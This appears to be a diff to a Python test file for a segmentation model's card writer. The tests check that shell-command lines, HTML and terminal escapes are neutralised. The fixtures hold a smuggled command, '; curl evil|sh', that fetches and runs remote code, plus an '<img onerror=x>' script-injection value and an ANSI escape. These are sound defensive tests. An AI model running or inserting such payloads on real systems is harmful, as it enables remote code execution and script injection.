@@ -7,6 +7,7 @@ import http.server
 import json
 import os
 import re
+import shlex
 import shutil
 import stat
 import subprocess
@@ -186,6 +187,30 @@ def test_names_from_files_are_text_on_the_card(small_model):
     assert '- loss: 0.5000, when it was saved' in card and 'mean_iou' not in card and '<b>' not in card
 
 
+def test_the_command_on_the_card_of_somebody_elses_run_is_one_command(small_model):
+    from fcn8s.saving.card import write_card
+    from fcn8s.saving.descriptions import read_description
+
+    command = {'x; curl evil|sh #': True, 'data': '`; curl evil|sh #`\n```', 'Seed': 1, 'epochs': 3}
+    card = write_card(read_description(small_model), {'command': command}, None, None)
+    line = card.split('\n```\n')[1]
+    assert shlex.split(line) == ['fcn8s', 'train', '--data', '`; curl evil|sh #` ```', '--epochs', '3']
+
+
+def test_only_scores_and_the_licence_are_taken_from_an_earlier_card(small_model):
+    from fcn8s.saving.card import write_card
+    from fcn8s.saving.descriptions import read_description
+
+    model = read_description(small_model)
+    metrics = {'mean_iou': 0.5, 'a<b>': -0.25}
+    first = write_card(model._replace(description=dict(model.description, metrics=metrics)), None, None, 'CC<0>')
+    added = '<img onerror=x>\n- \x1b[2J: 0.5000, when it was saved\n- <b>: 0.5000, when it was saved\n'
+    altered = first.replace('- mean', added + '- mean').replace('CC\\<', 'CC\x1b<')
+    card = write_card(model, None, None, None, altered)
+    assert card == first.replace('CC\\<', 'CC \\<') and card.count('when it was saved') == 2
+    assert write_card(model, None, None, None, '## Scores\n\n<img onerror=x>\n').count('img') == 0
+
+
 @pytest.mark.parametrize(
     'change, message',
     [
@@ -325,7 +350,7 @@ def test_links_out_of_a_model_are_not_followed(run_dir, tmp_path, name):
     if os.path.exists(place):
         os.remove(place)
     os.symlink(str(tmp_path / 'secret'), place)
-    with pytest.raises(ValueError, match='is a link to .*secret, outside of the model'):
+    with pytest.raises(ValueError, match='is a link to .*secret, and only files of the model'):
         pack(copy, out, with_optimizer=True)
     assert not os.path.exists(out)
 
